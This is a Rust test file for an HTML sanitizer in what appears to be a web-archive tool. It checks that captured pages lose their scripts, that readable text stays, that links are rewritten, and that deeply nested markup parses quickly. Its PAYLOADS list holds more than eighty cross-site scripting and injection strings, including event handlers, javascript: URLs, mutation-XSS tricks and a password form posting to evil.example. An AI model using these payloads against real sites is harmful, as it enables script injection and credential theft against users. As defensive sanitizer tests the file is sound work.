//! What captured pages try, and what is left of it.

use super::*;
use std::time::Instant;

fn cleaned(html: &str) -> String {
    let place = Place {
        root: String::new(),
        digits: "20160909120000".into(),
        url: "https://news.example.org/2016/truce.html".into(),
    };
    clean(html, &place, |page| Ok(page == "news.example.org/2016/aleppo.html")).unwrap()
}

/// Whether markup has only elements and attributes that do nothing. It is read by
/// html5ever's tokenizer rules through another allow-list of ammonia's: whatever
/// that one would change was not inert.
fn assert_inert(clean: &str, of: &str) {
    let again = judge().clean(clean).to_string();
    assert_eq!(again, clean, "not stable: {of}");
    let low = clean.to_ascii_lowercase();
    // Elements and attributes, not text: text has its brackets escaped.
    let tags: Vec<&str> = low.split('<').skip(1).filter_map(|t| t.split('>').next()).collect();
    for tag in tags {
        let name: &str = tag.trim_start_matches('/').split([' ', '/']).next().unwrap_or_default();
        assert!(ELEMENTS.contains(&name), "`{name}` stays of {of}: {clean}");
        // Between the quoted values stand the names.
        for names in tag.split('"').step_by(2) {
            for name in names.split(' ').skip(1).filter(|n| !n.is_empty()) {
                let name = name.trim_end_matches('=');
                let known = ATTRIBUTES.iter().any(|(_, names)| names.contains(&name));
                assert!(known, "attribute `{name}` stays of {of}: {clean}");
            }
        }
        if let Some((_, href)) = tag.split_once("href=\"") {
            let good = ["http://", "https://", "/web/", "#captured-"];
            assert!(good.iter().any(|g| href.starts_with(g)), "`{href}` stays of {of}");
        }
    }
}

/// Each is tried by itself, within a paragraph, and cut off at every fourth byte.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{0c}>alert(1)</script\u{0c}>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img alt='x' src='https://evil.example/t.gif' srcset='https://evil.example/2 2x'>",
    "<img alt=\"x\" onerror=alert(1) src=x>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<img alt='`' `onerror=alert(1)` src=x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>#x\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe><!--</iframe><script>alert(1)</script>-->",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<object type=\"text/x-scriptlet\" data=\"http://evil.example/\"><p>fallback</p></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<applet code=evil.class>x</applet>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<form action=\"https://evil.example/\"><input name=password><button>Go</button></form>",
    "<form id=x></form><button form=x formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea></textarea><script>alert(1)</script></textarea>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#1; javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"blob:https://news.example.org/x\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"https://user:pass@evil.example/\">x</a>",
    "<a href=\"https://evil.example/\" ping=\"https://evil.example/p\" target=_top download onclick=alert(1)>x</a>",
    "<a href='https://evil.example/\"onmouseover=alert(1) x=\"'>x</a>",
    "<a href=https://evil.example/ style=\"position:fixed;inset:0\">x</a>",
    "<area href=javascript:alert(1) shape=rect coords=0,0,9,9>",
    "<base href=\"javascript:alert(1)//\"><a href=\"x\">x</a>",
    "<base href=\"https://evil.example/\"><a href=\"login\">x</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<style>@import url(//evil.example/x.css);body{background:url(//evil.example/y)}</style>",
    "<style><!--</style><script>alert(1)</script>-->",
    "<div style=\"background:url(https://evil.example/t)\" class=notice>x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<body onload=alert(1) background=https://evil.example/x>x</body>",
    "<table background=https://evil.example/x><td background=y>x</table>",
    "<video src=x onerror=alert(1) poster=//evil.example/p><source onerror=alert(1) src=x></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<xmp><img title=\"</xmp><img src=1 onerror=alert(1)>\"></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><img title=\"</title><script>alert(1)</script>\"></title>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p id=main class=masthead name=main>x</p><p id='x onclick=alert(1)'>",
    "<p is=x slot=y itemscope data-event=4oymiquy7qob>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "</main></div></article><header class=masthead>",
    "\u{202e}<a href=https://evil.example/>gro.elpmaxe</a>",
    "<p>\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<td colspan=99999999><ol start=9999999999999>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<portal src=https://evil.example/></portal><fencedframe src=x></fencedframe>",
];

#[test]
fn nothing_that_a_page_tries_is_left() {
    assert!(PAYLOADS.len() >= 80);
    for payload in PAYLOADS {
        assert_inert(&cleaned(payload), payload);
        let page =
            format!("<!doctype html><html><head>{payload}</head><body><p>{payload}</p>{payload}");
        assert_inert(&cleaned(&page), &page);
        for end in (0..payload.len()).step_by(4).filter(|end| payload.is_char_boundary(*end)) {
            let cut = format!("<p>{}", &payload[..end]);
            assert_inert(&cleaned(&cut), &cut);
            let turned = format!("{}{}", &payload[end..], &payload[..end]);
            assert_inert(&cleaned(&turned), &turned);
        }
    }
}

#[test]
fn what_is_there_to_be_read_stays() {
    let page =
        "<!doctype html><title>Truce</title><header><h1 id=top class=big>A truce</h1></header>
        <p>Kerry &amp; Lavrov said &lt;so&gt; in <b>Geneva</b>.<br>It holds.
        <table><tr><th colspan=2>Town<td rowspan=1>Aleppo</table>
        <img src=a.jpg alt='Two men &quot;shaking&quot; hands'><img src=b.gif alt=''>
        <pre>a\n  b</pre><ol start=3><li lang=ar dir=rtl>هدنة</ol>";
    let clean = cleaned(page);
    for stays in [
        "<div><h1 id=\"captured-top\">A truce</h1></div>",
        "Kerry &amp; Lavrov said &lt;so&gt; in <b>Geneva</b>.<br>",
        "<th colspan=\"2\">Town</th><td>Aleppo</td>",
        "<small>[Two men \"shaking\" hands]</small>",
        "<pre>a\n  b</pre>",
        "<ol start=\"3\"><li",
        "هدنة",
    ] {
        assert!(clean.contains(stays), "{stays} is missing in {clean}");
    }
    assert!(!clean.contains("b.gif") && !clean.contains("Truce<"));
}

#[test]
fn links_lead_to_captures_or_out() {
    let page = "<a href='aleppo.html'>1</a><a href='/2016/aleppo.html#x'>2</a>
        <a href='//www.un.org/a?b=c&amp;d'>3</a><a href='#top'>4</a><a href='mailto:a@b.c'>5</a>";
    let clean = cleaned(page);
    let rel = "rel=\"nofollow noopener noreferrer\"";
    for link in [
        format!(
            "<a href=\"/web/20160909120000/https://news.example.org/2016/aleppo.html\" {rel}>1</a>"
        ),
        format!(
            "<a href=\"/web/20160909120000/https://news.example.org/2016/aleppo.html#x\" {rel}>2</a>"
        ),
        format!("<a href=\"https://www.un.org/a?b=c&amp;d\" {rel}>3</a>"),
        format!("<a href=\"#captured-top\" {rel}>4</a>"),
        format!("<a {rel}>5</a>"),
    ] {
        assert!(clean.contains(&link), "{link} is missing in {clean}");
    }
}

#[test]
fn no_page_takes_long() {
    let many = |text: &str| text.repeat(400_000 / text.len());
    for page in [
        many("<div>"),
        many("<b>"),
        many("<a href=x>"),
        many("<p><b><i>"),
        many("<table><tr><td>"),
        many("<a><div>"),
        many("</p>"),
        many("<b></p>"),
        many("<font><p>"),
        many("<li><ul>"),
        many("<select>"),
        many("<svg>"),
        many("<!--"),
        many("<a href='x"),
        many("&amp"),
        many("<b id=x><div>"),
        many("<nobr>"),
        many("<table><b>"),
    ] {
        let began = Instant::now();
        assert_inert(&cleaned(&page), "many of it");
        let took = began.elapsed();
        println!("{took:?} for {}", &page[..20]);
        assert!(took.as_secs() < 20, "{took:?} for {}", &page[..20]);
    }
}
